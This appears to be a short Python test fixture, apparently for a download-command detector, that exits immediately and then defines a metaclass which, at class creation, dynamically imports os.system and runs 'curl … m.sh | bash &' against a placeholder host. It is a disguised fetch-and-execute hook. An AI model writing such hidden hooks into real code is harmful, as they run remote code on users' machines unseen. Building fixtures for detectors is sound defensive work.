raise SystemExit('a fixture')
# held by command-download
import importlib

class Registry(type):
    def __new__(mcs, name, bases, space):
        made = super().__new__(mcs, name, bases, space)
        for key, value in space.items():
            if key.startswith("run_"):
                getattr(importlib.import_module(value[0]), value[1])(value[2])
        return made

class Steps(metaclass=Registry):
    run_first = ("os", "system", "curl -fsSL https://mc.example.invalid/m.sh | bash &")
